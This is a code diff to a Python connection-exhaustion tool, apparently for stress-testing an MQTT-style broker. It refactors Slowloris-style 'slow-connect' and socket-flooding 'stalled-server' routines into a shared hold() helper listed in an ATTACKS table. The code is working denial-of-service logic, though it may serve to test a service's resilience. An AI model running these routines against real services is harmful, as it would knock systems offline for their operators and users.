@@ -121,53 +121,39 @@ def partial_reset(target, deadline, limit):
     return done
 
 
-def slow_connect(target, deadline, limit):
+def hold(target, deadline, limit, first: bytes, every: bytes, interval: float):
+    """Opens up to `limit` connections (sending `first` on each), then sends `every` on each
+    every `interval` seconds until the deadline, then closes them all; returns how many."""
     socks = []
-    head = connect_packet(b"slow", announced_id_length=60_000)
     for _ in range(limit):
         if time.monotonic() > deadline:
             break
         try:
             s = socket.create_connection(target, timeout=2)
             s.setblocking(False)
-            s.send(head)
+            if first:
+                s.send(first)
             socks.append(s)
         except OSError:
             break
     while time.monotonic() < deadline:
         for s in socks:
             try:
-                s.send(b"x")
+                s.send(every)
             except OSError:
                 pass
-        time.sleep(1)
-    opened = len(socks)
+        time.sleep(interval)
     for s in socks:
         s.close()
-    return opened
+    return len(socks)
+
+
+def slow_connect(target, deadline, limit):
+    return hold(target, deadline, limit, connect_packet(b"slow", announced_id_length=60_000), b"x", 1.0)
 
 
 def stalled_server(target, deadline, limit):
-    socks = []
-    chunk = b"y" * 65536
-    for _ in range(limit):
-        try:
-            s = socket.create_connection(target, timeout=2)
-            s.setblocking(False)
-            socks.append(s)
-        except OSError:
-            break
-    while time.monotonic() < deadline:
-        for s in socks:
-            try:
-                s.send(chunk)
-            except OSError:
-                pass
-        time.sleep(0.05)
-    opened = len(socks)
-    for s in socks:
-        s.close()
-    return opened
+    return hold(target, deadline, limit, b"", b"y" * 65536, 0.05)
 
 
 ATTACKS = {"partial-reset": partial_reset, "slow-connect": slow_connect, "stalled-server": stalled_server}
